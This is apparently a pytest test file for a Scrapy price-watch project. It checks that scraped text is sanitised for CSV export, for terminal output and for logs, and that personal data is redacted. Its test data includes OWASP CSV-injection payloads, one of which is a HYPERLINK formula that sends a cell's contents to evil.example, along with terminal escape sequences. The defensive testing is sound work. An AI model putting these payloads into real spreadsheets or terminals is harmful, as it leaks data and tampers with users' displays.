"""Text from shops is safe wherever it goes: one normalised form in both stores, no
spreadsheet formula in `scrapy prices --csv`, no escape sequence on the terminal, no
personal data in the log lines about dropped items."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import threading
from dataclasses import replace
from decimal import Decimal
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from scrapy import Spider
from scrapy.exceptions import DropItem
from scrapy.utils.test import get_crawler

from pricewatch._text import clean_text, csv_cell, visible
from pricewatch.logformatter import RedactingLogFormatter
from pricewatch.storage import store_from_url
from pricewatch.validation import validate

from .helpers import scrapy as run_scrapy
from .test_store_commands import observation, scrapy
from .test_validation import MAX, item

# Where the cases come from: issue 12 item 7 (OWASP's CSV injection payloads).
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+2", "@cmd", "+SUM(A1:A9)",
            "-2+3", "\t=1", "\r=1"]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_never_a_csv_cell_as_is(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert csv_cell("Kettle = 1.7 l") == "Kettle = 1.7 l"


CONTROL = {
    "NUL": ("Ket\x00tle", "Ket tle"),
    "ANSI colour": ("\x1b[31mRed\x1b[0m kettle", "[31mRed [0m kettle"),
    "bell and DEL": ("Kettle\x07\x7f", "Kettle"),
    "right-to-left override": ("Kettle \u202egpj.exe", "Kettle gpj.exe"),
    "lone surrogate": ("Kettle \udcff", "Kettle"),
    "decomposed accent": ("Cafe\u0301", "Caf\u00e9"),
}


@pytest.mark.parametrize("raw,normal", CONTROL.values(), ids=CONTROL.keys())
def test_text_fields_are_normalised_at_validation(raw: str, normal: str) -> None:
    obs = validate(item(name=raw, sku=raw), MAX)
    assert obs.name == obs.sku == normal


def test_visible_escapes_what_a_terminal_would_run() -> None:
    assert visible("\x1b[2J\x00\u202e") == "\\x1b[2J\\x00\\u202e"
    assert clean_text("a\x00b") == "a b"


def test_a_nul_byte_is_stored_alike_by_both_stores(sqlite_url: str, postgres_url: str) -> None:
    obs = validate(item(name="Kettle\x00 2000", sku="K\x00-1"), MAX)

    async def stored(url: str) -> tuple[str | None, str | None]:
        async with store_from_url(url) as store:
            result = await store.write([obs])
            assert not result.rejected
            [row] = [r async for r in store.latest()]
            return row.name, row.sku

    assert asyncio.run(stored(sqlite_url)) == asyncio.run(stored(postgres_url))
    assert asyncio.run(stored(sqlite_url)) == ("Kettle 2000", "K -1")


def test_prices_neutralises_formulas_and_escape_sequences(store_url: str) -> None:
    # Written past validation, as rows stored before it normalised text would be.
    rows = [
        observation(f"https://a.test/p/{i}", "9.99", sku=text, name=text)
        for i, text in enumerate([*FORMULAS[:4], "\x1b[2J\x1b]0;pwned\x07"])
    ]

    async def write() -> None:
        async with store_from_url(store_url) as store:
            await store.write(rows)

    asyncio.run(write())
    exported = scrapy("prices", "--csv", store=store_url)
    assert exported.returncode == 0, exported.stderr
    records = list(csv.DictReader(io.StringIO(exported.stdout)))
    for record, text in zip(records[:4], FORMULAS[:4], strict=True):
        assert record["sku"] == record["name"] == "'" + text
    table = scrapy("prices", store=store_url)
    assert table.returncode == 0, table.stderr
    assert "\x1b" not in table.stdout and "\x07" not in table.stdout
    assert "\\x1b[2J\\x1b]0;pwned\\x07" in table.stdout


def test_dropped_items_are_logged_redacted(caplog: pytest.LogCaptureFixture) -> None:
    crawler = get_crawler(Spider, settings_dict={})
    spider = Spider.from_crawler(crawler, name="s")
    offer = item(name="Ask jane.doe@example.com or +49 30 1234-5678", sku="\x1b[31mA")
    offer = replace(offer, offer=replace(offer.offer, price=Decimal("1E+9")))
    entry = RedactingLogFormatter().dropped(offer, DropItem("absurd"), None, spider)  # type: ignore[arg-type]
    with caplog.at_level(logging.WARNING):
        logging.getLogger("t").log(entry["level"], entry["msg"], entry["args"])
    assert entry["level"] == logging.WARNING
    assert "jane.doe" not in caplog.text and "1234-5678" not in caplog.text
    assert "[email]" in caplog.text and "[phone]" in caplog.text
    assert "\x1b" not in caplog.text


def test_scraped_items_are_rendered_redacted_only_when_logged(
    caplog: pytest.LogCaptureFixture,
) -> None:
    crawler = get_crawler(Spider, settings_dict={})
    spider = Spider.from_crawler(crawler, name="s")
    offer = item(name="Ask jane.doe@example.com", sku="A-1")
    entry = RedactingLogFormatter().scraped(offer, None, spider)  # type: ignore[arg-type]
    assert not isinstance(entry["args"]["item"], str)  # type: ignore[index]
    logger = logging.getLogger("t")
    with caplog.at_level(logging.INFO):
        logger.log(entry["level"], entry["msg"], entry["args"])  # DEBUG: not rendered
    assert caplog.text == ""
    with caplog.at_level(logging.DEBUG):
        logger.log(entry["level"], entry["msg"], entry["args"])
    assert "jane.doe" not in caplog.text and "[email]" in caplog.text


PAGE = b"""<html><head><script type="application/ld+json">
{"@context": "https://schema.org", "@type": "Product",
 "name": "Kettle - questions to jane.doe@example.com or +49 30 1234-5678", "sku": "K-1",
 "offers": {"@type": "Offer", "price": "999999999.00", "priceCurrency": "EUR"}}
</script></head><body><h1>Kettle</h1></body></html>"""


def test_a_crawl_logs_a_dropped_item_redacted(tmp_path: Path) -> None:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = PAGE if self.path == "/p/1" else b"User-agent: *\nAllow: /\n"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{httpd.server_address[1]}/p/1"
        (tmp_path / "seeds.txt").write_text(url + "\n")
        assert run_scrapy(tmp_path, "seed", "seeds.txt").returncode == 0
        proc = run_scrapy(tmp_path, "crawl", "products")
    finally:
        httpd.shutdown()
        httpd.server_close()
    assert "pricewatch/validate/dropped/absurd" in proc.stderr, proc.stderr[-3000:]
    assert "Dropped:" in proc.stderr and "[email]" in proc.stderr, proc.stderr[-3000:]
    assert "jane.doe" not in proc.stderr and "1234-5678" not in proc.stderr
